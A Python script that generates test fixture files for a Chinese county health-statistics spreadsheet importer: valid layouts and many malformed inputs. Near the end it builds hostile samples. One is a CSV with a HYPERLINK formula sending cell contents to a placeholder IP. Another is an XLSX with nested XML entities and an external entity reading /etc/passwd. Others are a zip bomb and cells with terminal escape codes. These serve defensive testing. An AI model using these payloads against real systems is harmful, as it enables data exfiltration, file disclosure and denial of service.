    special="line breaks and spaces inside header words, a status in a year's header",
    layout="years_across",
)
def _():
    rows = [
        ["指 标 名 称", "计量\n单位", "2023年\n（年报）", "2024年（快报）"],
        ["婴儿\n死亡率", "‰", 4.3, 4.1],
        ["人均预期\n寿命 ", "岁", 78.2, 78.4],
    ]
    return book({"甲县": rows})


@made(
    "good/aims_and_changes.xlsx",
    by="openpyxl",
    special="a target column, a change column and a remark beside the years: none of them is a figure",
    layout="years_across",
)
def _():
    head = ["指标", "单位", "2025年目标值", "2023年", "2024年", "2024年比2023年增减", "备注"]
    rows = [[INFANT, "‰", 5, 4.3, 4.1, -0.2, None], [ELDERLY, "%", 75, 71.5, 72.4, 0.9, "2024年为快报"]]
    return book({"Sheet1": [["甲县规划指标进展"], head, *rows]})


@made(
    "good/ranks.xlsx",
    by="openpyxl",
    special="a rank column beside each indicator, sorted by it",
    layout="indicators_across",
)
def _():
    rows = [["2024年各县区指标排名"], ["县区", f"{INFANT}（‰）", "位次", f"{ELDERLY}（%）", "排名"]]
    return book({"Sheet1": [*rows, ["乙县", 3.6, 1, 69.8, 2], ["甲县", 4.1, 2, 72.4, 1]]})


@made(
    "good/aimed_and_done.csv",
    by="WPS 'CSV'",
    special="目标值, 完成值 and 完成率 side by side: the figure is what was done",
    layout="long",
    encoding="GB18030",
)
def _():
    head = ["县区", "指标", "年份", "单位", "目标值", "完成值", "完成率", "是否完成"]
    rows = [
        ["甲县", ELDERLY, 2024, "%", "70", "72.4", "103.4%", "是"],
        ["乙县", ELDERLY, 2024, "%", "70", "69.1", "98.7%", "否"],
    ]
    return text([head, *rows], encoding="gb18030")


@made(
    "good/codes_numeric.xlsx", by="XlsxWriter", special="codes as numbers beside names, years as 2024.0", layout="long"
)
def _():
    def draw(made):
        sheet = made.add_worksheet("Sheet1")
        sheet.write_row(0, 0, ["县区代码", "县区", "指标", "年份", "数值"])
        sheet.write_row(1, 0, [900101, "甲县", INFANT, 2024.0, 4.1])
        sheet.write_row(2, 0, [900102, "乙县", INFANT, 2024.0, 4.6])

    return written(draw)


@made(
    "good/portal.xls",
    by="statistics portal",
    special="an HTML table named .xls, GB2312, header cells over rows and columns, &nbsp;",
    layout="indicators_across",
    encoding="GB18030",
)
def _():
    rows = ["<td colspan=3>2023年妇幼健康指标</td>", "<th rowspan=2>县区</th><th colspan=2>妇幼健康</th>"]
    rows += [f"<th>{INFANT}(‰)</th><th>{MATERNAL}<br>(1/10万)</th>", "<td>甲县</td><td>4.3</td><td>&nbsp;</td>"]
    rows += ["<td>乙县</td><td align='right'>4.90</td><td>0</td>", "<td>丙县</td><td>&nbsp;5.1</td><td>23.1</td>"]
    meta = '<meta http-equiv="Content-Type" content="text/html; charset=gb2312">'
    page = f"<html><head>{meta}</head><body><table border=1>{''.join(f'<tr>{row}</tr>' for row in rows)}</table></body></html>"
    return page.encode("gb18030")


@made(
    "good/plan_and_actual.xlsx",
    by="openpyxl",
    special="计划 and 实际 under each year: what was planned is no figure",
    layout="years_across",
)
def _():
    rows = [["甲县主要指标"], ["指标", "2023年", None, "2024年", None], [None, "计划", "实际", "计划", "实际"]]

    def dress(made):
        for area in ("A2:A3", "B2:C2", "D2:E2"):
            made.active.merge_cells(area)

    return book({"Sheet1": [*rows, [INFANT, 5, 4.3, 5, 4.1], [LIFE, 78, 78.2, 78.3, 78.4]]}, dress)


@made(
    "good/indicator_in_title.csv",
    by="Python csv",
    special="the indicator stands in the title only",
    layout="years_across",
    encoding="UTF-8",
)
def _():
    return text(
        [["2021—2023年各县婴儿死亡率（‰）"], ["县区", "2022", "2023"], ["甲县", "4.6", "4.3"], ["乙县", "5.2", "4.9"]]
    )


@made(
    "good/superscripts.xlsx",
    by="XlsxWriter",
    special="footnote marks as superscripts in a number, a county and an indicator: 4.3¹ is not 4.31",
    layout="long",
)
def _():
    def draw(made):
        sheet, up = made.add_worksheet("Sheet1"), made.add_format({"font_script": 1})
        sheet.write_row(0, 0, LONG[:4])
        sheet.write_row(1, 0, ["甲县", INFANT, 2023])
        sheet.write_rich_string(1, 3, "4.3", up, "1")
        sheet.write_rich_string(2, 0, "乙县", up, "①")
        sheet.write_rich_string(2, 1, LIFE, up, "2")
        sheet.write_row(2, 2, [2023, 78.1])

    return written(draw)


@made(
    "bad/looks_old.xls",
    by="LibreOffice",
    special="no table: a raised and a struck digit, a struck cell, two number formats, a hidden row and column, a merged range",
)
def _():
    def draw(made):
        raised, struck = made.add_format({"font_script": 1}), made.add_format({"font_strikeout": True})
        sheet = made.add_worksheet("数据")
        sheet.write_rich_string(0, 0, "4.3", raised, "1")
        sheet.write_rich_string(0, 1, struck, "3", made.add_format(), "4")
        sheet.write_number(1, 0, 5, struck)
        sheet.write_number(1, 1, 120_000_000, made.add_format({"num_format": '0.0,,"百万"'}))
        sheet.write_number(1, 2, 0.938, made.add_format({"num_format": "0.0%"}))
        sheet.merge_range(2, 0, 2, 1, "合并")
        sheet.write_formula(3, 0, "=1+1", None, 2)
        sheet.set_row(3, None, None, {"hidden": True})
        sheet.write_string(1, 3, "12")
        sheet.set_column(3, 3, None, None, {"hidden": True})

    return converted(written(draw), start="xlsx", to="xls")


@made(
    "good/blank_formulas.xlsx",
    by="LibreOffice",
    special="formulas that give an empty text or —: no figure, and no mistake",
    layout="long",
)
def _():
    def draw(made):
        sheet = made.add_worksheet("Sheet1")
        sheet.write_row(0, 0, [*LONG[:4], "分子", "分母"])
        sheet.write_row(1, 0, ["甲县", ELDERLY, 2023])
        sheet.write_formula(1, 3, '=IF(E2="","",E2/F2*100)', None, "")
        sheet.write_row(2, 0, ["乙县", ELDERLY, 2023])
        sheet.write_formula(2, 3, '=IF(E3="","—",E3/F3*100)', None, "—")
        sheet.write_row(3, 0, ["丙县", ELDERLY, 2023, 70.5, 705, 1000])

    return converted(written(draw), start="xlsx", to="xlsx:Calc MS Excel 2007 XML")


# ---- what must be refused, or told


@made(
    "bad/misspelt_county.csv",
    by="Python csv",
    special="a county one character off: suggested, never matched",
    layout="long",
    encoding="UTF-8",
)
def _():
    return text(
        [
            LONG,
            ["甲县", INFANT, 2023, "4.3", "‰"],
            ["丁可县", INFANT, 2023, "4.9", "‰"],
            ["戊己庚县", INFANT, 2023, "5.0", "‰"],
        ]
    )


@made(
    "bad/misspelt_indicator.csv",
    by="WPS 'CSV'",
    special="indicator names one character off; one unknown altogether",
    layout="long",
    encoding="GB18030",
)
def _():
    rows = [["甲县", "婴儿死亡绿", 2023, "4.3", "‰"], ["甲县", "高血压患者规范管里率", 2023, "66.1", "%"]]
    rows += [["甲县", "全县公交车辆数", 2023, "12", "辆"], ["乙县", INFANT, 2023, "4.9", "‰"]]
    return text([LONG, *rows], encoding="gb18030")


@made(
    "bad/ambiguous_county.csv",
    by="Python csv",
    special="a short name that two counties have",
    layout="long",
    encoding="UTF-8",
)
def _():
    return text(
        [
            LONG,
            ["丁河", INFANT, 2023, "4.3", "‰"],
            ["丁河县", INFANT, 2023, "4.9", "‰"],
            ["丁河区", INFANT, 2023, "5.3", "‰"],
        ]
    )


@made(
    "bad/ambiguous_indicator.csv",
    by="Python csv",
    special="a name that two indicators share but for what stands in brackets",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲县", "食品安全可疑聚集性事件发现率", 2023, "100", "%"],
        ["甲县", "食品安全审核及时率(县疾控中心)", 2023, "100", "%"],
    ]
    return text([LONG, *rows])


@made(
    "bad/units.csv",
    by="Python csv",
    special="‰ for %, % for ‰, 万人 for 人, 1/万 for 1/10万: none is converted",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲县", ELDERLY, 2023, "71.5", "‰"],
        ["乙县", INFANT, 2023, "0.43", "%"],
        ["丙县", INFANT, 2023, "4.3", "‰"],
    ]
    rows += [["甲县", "卫生专业技术人员数", 2023, "0.12", "万人"], ["甲县", MATERNAL, 2023, "1.19", "1/万"]]
    return text([LONG, *rows])


@made(
    "bad/units_in_cells.xlsx",
    by="openpyxl",
    special="a wrong sign printed with the number; a header whose unit is wrong for its whole column",
    layout="indicators_across",
)
def _():
    head = ["县区", f"{INFANT}（%）", ELDERLY, f"{LIFE}（岁）"]
    return book({"2023年": [head, ["甲县", 0.43, "71.5‰", 78.2], ["乙县", 0.49, "69.8%", 77.8]]})


@made(
    "bad/future_year.csv",
    by="Python csv",
    special="a figure of a year that has not ended, one of the next century",
    layout="long",
    encoding="UTF-8",
)
def _():
    return text(
        [
            LONG,
            ["甲县", INFANT, 2027, "4.3", "‰"],
            ["乙县", INFANT, 2024, "4.9", "‰"],
            ["丙县", INFANT, 2204, "4.9", "‰"],
        ]
    )


@made(
    "bad/duplicates_differ.csv",
    by="Python csv",
    special="one cell stated twice with different values: neither is taken",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [["甲县", INFANT, 2023, "4.3", "‰"], ["乙县", INFANT, 2023, "4.9", "‰"], ["甲县", INFANT, 2023, "3.4", "‰"]]
    return text([LONG, *rows])


@made(
    "bad/text_for_numbers.xlsx",
    by="openpyxl",
    special="words, dates, two numbers and a comma where a number belongs",
    layout="long",
)
def _():
    rows = [["甲县", INFANT, 2023, "约5左右吧"], ["甲县", LIFE, 2023, "见附件3"], ["甲县", ELDERLY, 2023, "71,5"]]
    rows += [
        ["乙县", INFANT, 2023, "4.3-4.9"],
        ["乙县", LIFE, 2023, datetime.date(2023, 7, 8)],
        ["乙县", ELDERLY, 2023, "12,34,5"],
    ]
    return book({"Sheet1": [LONG[:4], *rows, ["丙县", INFANT, 2023, 5.0], ["丙县", LIFE, 2023, True]]})


@made(
    "bad/years.csv",
    by="Python csv",
    special="years that are none: 24, 2023-2024, 2019/2020, 二〇二三, blank",
    layout="long",
    encoding="UTF-8",
)
def _():
    years = ["24", "2023-2024", "2019/2020", "十四五期末", "", "2023"]
    return text([LONG, *(["甲县", INFANT, year, "4.3", "‰"] for year in years)])


@made(
    "bad/gaps_in_rows.csv",
    by="Python csv",
    special="a row without county, one without indicator",
    layout="long",
    encoding="UTF-8",
)
def _():
    return text(
        [LONG, ["", INFANT, 2023, "4.3", "‰"], ["乙县", "", 2023, "4.9", "‰"], ["丙县", INFANT, 2023, "5.1", "‰"]]
    )


@made("bad/no_year.xlsx", by="openpyxl", special="counties across, no year anywhere")
def _():
    return book({"Sheet1": [["指标", "单位", "甲县", "乙县"], [INFANT, "‰", 4.3, 4.9], [LIFE, "岁", 78.2, 77.8]]})


@made("bad/no_county.xlsx", by="openpyxl", special="years across, no county anywhere")
def _():
    return book({"Sheet1": [["指标", "单位", 2022, 2023], [INFANT, "‰", 4.6, 4.3], [LIFE, "岁", 77.9, 78.2]]})


@made(
    "bad/status_words.csv",
    by="Python csv",
    special="a status and a period that are not known",
    layout="long",
    encoding="UTF-8",
)
def _():
    head = ["县区", "指标", "年份", "时期", "状态", "数值"]
    rows = [
        ["甲县", INFANT, 2023, "全年", "大概数", "4.3"],
        ["乙县", INFANT, 2023, "第五季度", "年报", "4.9"],
        ["丙县", INFANT, 2023, "全年", "年报", "5.1"],
    ]
    return text([head, *rows])


@made(
    "good/totals.xlsx",
    by="openpyxl",
    special="a total row and a mean row among the counties",
    layout="indicators_across",
)
def _():
    rows = [
        ["2023年主要指标"],
        ["县区", INFANT, ELDERLY],
        ["甲县", 4.3, 71.5],
        ["乙县", 4.9, 69.8],
        ["合计", 4.6, 70.6],
        ["全市平均", 4.6, 70.6],
    ]
    return book({"Sheet1": rows})


@made(
    "bad/formulas_unread_old.xls",
    by="a library that computes nothing (as xlwt)",
    special="an XLS whose formulas nobody computed: an empty text is kept for each; and a bare stream without styles",
    layout="indicators_across",
)
def _():
    rows = [
        ["县区", f"{ELDERLY}(%)", f"{INFANT}(‰)"],
        ["甲县", 71.5, 3.1],
        ["乙县", ("divided", 947, 1000), ("copied", 1, 1)],
        ["丙县", 69.8, 4.1],
    ]
    return old_workbook("2024年", rows)


@made("bad/formulas_unread.xlsx", by="openpyxl", special="formulas whose values no program has stored", layout="long")
def _():
    rows = [["甲县", INFANT, 2023, "=E2/F2*1000", 4, 930], ["乙县", INFANT, 2023, 4.9, None, None]]
    return book({"Sheet1": [["县区", "指标", "年份", "数值", "分子", "分母"], *rows]})


@made("bad/formula_errors.xlsx", by="XlsxWriter", special="#DIV/0! #REF! #N/A kept in cells", layout="long")
def _():
    def draw(made):
        sheet = made.add_worksheet("Sheet1")
        sheet.write_row(0, 0, LONG[:4])
        for row, (area, error) in enumerate([("甲县", "#DIV/0!"), ("乙县", "#REF!"), ("丙县", "#N/A")], 1):
            sheet.write_row(row, 0, [area, INFANT, 2023])
            sheet.write_formula(row, 3, "=1/0", None, error)
        sheet.write_row(4, 0, ["甲县", LIFE, 2023, 78.2])

    return written(draw)


@made(
    "bad/injection.csv",
    by="Python csv",
    special="spreadsheet formulas in text cells: told, never evaluated",
    layout="long",
    encoding="UTF-8",
)
def _():
    link = '=HYPERLINK("http://203.0.113.9/?x="&A1,"点我")'
    rows = [
        ["甲县", INFANT, 2023, "4.3", "正常"],
        ["乙县", INFANT, 2023, "=1+4", ""],
        ["丙县", LIFE, 2023, "78.2", link],
    ]
    return text([[*LONG[:4], "备注"], *rows, ["@SUM(A1:A9)", INFANT, 2023, "4.9", ""]])


@made(
    "bad/all_at_once.csv",
    by="WPS 'CSV'",
    special="one problem of each kind: all are told in one reading",
    layout="long",
    encoding="GB18030",
)
def _():
    rows = [
        ["甲县", INFANT, 2023, "4.3", "‰"],
        ["丁可县", INFANT, 2023, "4.3", "‰"],
        ["甲县", "婴儿死亡绿", 2023, "4.3", "‰"],
    ]
    rows += [
        ["乙县", INFANT, 2023, "见附件", "‰"],
        ["乙县", ELDERLY, 2023, "71.5", "‰"],
        ["丙县", INFANT, 2031, "4.3", "‰"],
    ]
    rows += [
        ["丙县", INFANT, "去年", "4.3", "‰"],
        ["丙县", ELDERLY, 2023, "101.2", "%"],
        ["丙县", LIFE, 2023, "未统计", "岁"],
    ]
    return text([LONG, *rows], encoding="gb18030")


@made(
    "bad/targets.xlsx",
    by="openpyxl",
    special="targets without document or place, with an unknown sign, a range whose ends are crossed",
    layout="targets",
)
def _():
    good = [
        "900101",
        "甲县",
        "",
        INFANT,
        "‰",
        2025,
        "规划",
        "≤",
        5,
        None,
        "预期性",
        None,
        None,
        "甲县规划",
        "第二章",
        None,
    ]
    rows = [good, [*good[:13], None, "第二章", None], [*good[:13], "甲县规划", None, None]]
    rows += [
        [
            "900102",
            "乙县",
            "",
            INFANT,
            "‰",
            2025,
            "规划",
            "不大于等于",
            5,
            None,
            "预期性",
            None,
            None,
            "乙县规划",
            "第二章",
            None,
        ]
    ]
    rows += [
        [
            "900102",
            "乙县",
            "",
            LIFE,
            "岁",
            2025,
            "规划",
            "≥",
            "八十",
            None,
            "预期性",
            None,
            None,
            "乙县规划",
            "第二章",
            None,
        ]
    ]
    rows += [[*good[:8], "低于4.5", *good[9:14], "第三章", None], [*good[:5], 1825, *good[6:]]]
    rows += [
        [
            "900102",
            "乙县",
            "",
            ELDERLY,
            "%",
            2025,
            "规划",
            "≥",
            850,
            None,
            "预期性",
            None,
            None,
            "乙县规划",
            "第二章",
            None,
        ]
    ]
    return book({"目标": [TARGETS, *rows]})


@made(
    "bad/tasks.csv",
    by="Python csv",
    special="a task without words, one without a county",
    layout="commitments",
    encoding="UTF-8",
)
def _():
    rows = [["", "900101", "甲县", "建成五大中心", "5", "个", "2025年底", "医政股", "进行中", "甲县规划", "第三章", ""]]
    rows += [["", "900101", "甲县", "", "5", "个", "2025年底", "医政股", "", "甲县规划", "第三章", ""]]
    rows += [["", "", "", "配备负压救护车", "2", "辆", "2025年", "医政股", "", "甲县规划", "第三章", ""]]
    rows += [["", "900102", "乙县", "配备负压救护车", "约2", "辆", "2025年", "医政股", "", "乙县规划", "第三章", ""]]
    return text([TASKS, *rows], encoding="utf-8-sig")


@made(
    "bad/code_and_name_differ.csv",
    by="Python csv",
    special="the code says one county, the name another; the id one indicator, the name another",
    layout="long",
    encoding="UTF-8",
)
def _():
    head = ["县区代码", "县区", "指标编号", "指标", "年份", "数值"]
    rows = [
        ["900101", "乙县", "infant_mortality", INFANT, 2024, "4.1"],
        ["900102", "乙县", "under5_mortality", INFANT, 2024, "4.6"],
    ]
    return text([head, *rows, ["900103", "丙县", "infant_mortality", INFANT, 2024, "5.0"]])


@made(
    "bad/same_year_twice.xlsx",
    by="openpyxl",
    special="two columns of one year with different values",
    layout="years_across",
)
def _():
    return book(
        {
            "甲县": [
                ["指标", "单位", "2023年", "2024年", "2024年"],
                [INFANT, "‰", 4.3, 4.1, 3.9],
                [LIFE, "岁", 78.2, 78.4, 78.4],
            ]
        }
    )


@made("bad/two_blocks.csv", by="WPS 'CSV'", special="two tables under each other, each county's name above its own")
def _():
    one = [["甲县"], ["指标", "2022年", "2023年"], [INFANT, "4.6", "4.3"]]
    two = [["乙县"], ["指标", "2022年", "2023年"], [LIFE, "77.1", "77.8"]]
    return text([*one, [], *two], encoding="gb18030")


@made(
    "bad/months.csv",
    by="Python csv",
    special="figures up to some month: none is the year's, but December and the last day are",
    layout="long",
    encoding="UTF-8",
)
def _():
    years = [
        "2023年6月",
        "2023.6",
        "202306",
        "2023年1-9月",
        "2022.10-2023.9",
        "2023年下半年",
        "2023-12-31",
        "2022年12月",
    ]
    return text([LONG[:4], *(["甲县", INFANT, year, "4.3"] for year in years)])


@made(
    "bad/women_only.csv",
    by="Python csv",
    special="a column that says the figures are of women: no figure of the county",
    layout="long",
    encoding="UTF-8",
)
def _():
    return text(
        [
            ["县区", "指标", "年份", "性别", "数值"],
            ["甲县", LIFE, 2023, "女", "80.6"],
            ["乙县", LIFE, 2023, "女", "80.1"],
        ]
    )


@made("bad/title_months.csv", by="WPS 'CSV'", special="the title says January to September: no figure of the year")
def _():
    return text([["2023年1—9月甲县主要指标"], ["指标", "单位", "数值"], [INFANT, "‰", "4.3"]], encoding="gb18030")


@made("bad/month_on_tab.xlsx", by="openpyxl", special="a sheet named after a month, its title up to a day in it")
def _():
    head = ["县区", INFANT, LIFE]
    return book(
        {"2023年6月": [head, ["甲县", 4.3, 78.2]], "报表": [["截至2023年9月底主要指标"], head, ["乙县", 4.9, 77.8]]}
    )


@made("bad/title_of_targets.csv", by="WPS 'CSV'", special="the title says these are targets handed down, not figures")
def _():
    return text(
        [["甲市2024年度目标任务分解表"], ["指标", "单位", "甲县", "乙县"], [INFANT, "‰", "5", "5"]], encoding="gb18030"
    )


# ---- files that are not what they are called, or should not be opened


@made("bad/empty.csv", by="nothing", special="no bytes at all")
def _():
    return b""


@made("bad/header_only.csv", by="Python csv", special="a header and no row", encoding="UTF-8")
def _():
    return text([LONG])


@made("bad/letter.csv", by="a text editor", special="prose, no table")
def _():
    return "各县（区）卫生健康局：\n现将2023年度统计年报工作有关事项通知如下，请认真贯彻执行。\n联系人：股室\n".encode(
        "gb18030"
    )


@made("bad/mixed_bytes.csv", by="two programs", special="GB18030 lines glued to UTF-8 lines: neither decodes")
def _():
    return (
        text([LONG, ["甲县", INFANT, 2023, "4.3", "‰"]], encoding="gb18030")
        + text([["乙县", LIFE, 2023, "78.2", "岁"]])
        + b"\xff\xfe\x81"
    )


@made("bad/not_a_book.xlsx", by="a PDF renamed", special="PDF bytes named .xlsx")
def _():
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@made("bad/picture.csv", by="a screenshot renamed", special="PNG bytes named .csv")
def _():
    return bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
    )


@made("bad/archive.xlsx", by="zip", special="a zip with a CSV inside, named .xlsx")
def _():
    return zipped({"数据/2023.csv": text([LONG, ["甲县", INFANT, 2023, "4.3", "‰"]])})


@made("bad/cut_off.xlsx", by="openpyxl, cut", special="half a download")
def _():
    return book({"Sheet1": _years_across()})[:3000]


@made("bad/macros.xlsm", by="openpyxl, then edited", special="a VBA project (dummy bytes)")
def _():
    return zipped(
        members(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}))
        | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"}
    )


@made("bad/macros_renamed.xlsx", by="openpyxl, then edited", special="the same under an innocent name")
def _():
    return zipped(
        members(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}))
        | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"}
    )


@made(
    "bad/encrypted.xlsx",
    by="OLE header by hand",
    special="what a password leaves: an OLE container with EncryptedPackage",
)
def _():
    name = "EncryptedPackage".encode("utf-16-le")
    return (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + bytes(504)
        + "EncryptionInfo".encode("utf-16-le")
        + bytes(100)
        + name
        + bytes(900)
    )


@made("good/external_links.xlsx", by="openpyxl, then edited", special="cells that point into another workbook")
def _():
    link = f'<?xml version="1.0"?><externalLink xmlns="{MAIN}"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///share/2023.xlsx" TargetMode="External"/></Relationships>'
    parts = members(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}))
    return zipped(
        parts | {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels}
    )


@made("bad/entities.xlsx", by="zip by hand", special="a DTD with nested entities and one that points at a file")
def _():
    entities = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    cells = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in ("县区", "指标", "年份", "&b;"))
    row = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in ("甲县", INFANT, "2023", "&f;"))
    body = f'<?xml version="1.0"?>{entities}<worksheet xmlns="{MAIN}"><sheetData><row>{cells}</row><row>{row}</row></sheetData></worksheet>'
    return zipped(_plain_book() | {"xl/worksheets/sheet1.xml": body})


@made("bad/xml_2003.xls", by="statistics portal", special="XML Spreadsheet 2003 named .xls")
def _():
    row = "".join(f'<Cell><Data ss:Type="String">{name}</Data></Cell>' for name in LONG)
    return f'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table><Row>{row}</Row></Table></Worksheet></Workbook>'.encode()


@made("bad/calc.ods", by="LibreOffice", special="a real ODS: not one of the formats taken")
def _():
    return converted(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}), start="xlsx", to="ods")


@made("bad/report.docx", by="python-docx", special="a Word file with the table in it")
def _():
    made, out = docx.Document(), io.BytesIO()
    table = made.add_table(rows=2, cols=5)
    for row, cells in enumerate([LONG, ["甲县", INFANT, "2023", "4.3", "‰"]]):
        for column, cell in enumerate(cells):
            table.cell(row, column).text = cell
    made.save(out)
    needed = (
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
    )  # the rest of python-docx's blank page is 30 kB
    return zipped({name: part for name, part in members(out.getvalue()).items() if name in needed})


@made("bad/zip_bomb.xlsx", by="zip by hand", special="9 kB that unpack to 8 MB of blanks")
def _():
    blank = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>{" " * 8_000_000}</sheetData></worksheet>'
    return zipped(_plain_book() | {"xl/worksheets/sheet1.xml": blank})


@made(
    "bad/controls.csv",
    by="Python csv",
    special="what a terminal acts on, in names and values: escape, carriage return, marks that turn the writing",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲县", INFANT, 2023, "4.3\x1b[2J", "‰"],
        ["乙县\x1b[31m", INFANT, 2023, "4.4", "‰"],
        ["丙县", f"{INFANT}\u202e", 2023, "4.5\u2028", "‰"],
        ["甲县", LIFE, 2023, "78.2", "岁"],
    ]
    return text([LONG, *rows])


@made("bad/nul.csv", by="zeros of a broken disk", special="a zero byte within a number")
def _():
    return text([LONG, ["甲县", INFANT, 2023, "4\x003", "‰"]])


@made(
    "bad/open_quote.csv",
    by="by hand",
    special="a quotation mark that is never closed: all that follows is one cell",
    encoding="UTF-8",
)
def _():
    rest = "".join(f"乙县,{INFANT},{2000 + n % 24},4.3,‰\n" for n in range(500))
    return (",".join(LONG) + f'\n"甲县,{INFANT},2023,4.3,‰\n{rest}').encode()


@made(
    "bad/endless.csv",
    by="Python csv",
    special="a year repeated 1,500 times, numerals without end",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [["甲县", INFANT, "2020年" * 1500, "4.3", "‰"], ["乙县", INFANT, "2023", "亿" * 500, "‰"]]
    return text([LONG, *rows])


if __name__ == "__main__":
    for path, (make, *_rest) in FILES.items():
        if not sys.argv[1:] or any(name in path for name in sys.argv[1:]):
            HERE.joinpath(path).write_bytes(make())
    lines = [
        ["file", "made by", "layout", "encoding", "special"],
        *([path, *rest] for path, (_make, *rest) in FILES.items()),
    ]
    HERE.joinpath("about.tsv").write_text("".join("\t".join(line) + "\n" for line in lines), encoding="utf-8")
